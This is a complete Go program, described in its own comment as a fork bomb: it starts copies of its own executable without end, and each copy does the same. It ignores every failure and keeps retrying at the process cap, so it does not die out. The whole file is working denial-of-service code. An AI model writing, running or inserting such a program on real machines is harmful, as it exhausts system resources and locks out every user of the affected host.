// Command forkbomb starts copies of itself without end, each of which does
// the same, and ignores every failure: a fork bomb that keeps trying at
// the cap instead of dying out, as a shell's does when fork fails.
package main

import (
	"os"
	"os/exec"
	"time"
)

func main() {
	for {
		if exec.Command(os.Args[0]).Start() != nil {
			time.Sleep(time.Millisecond)
		}
	}
}
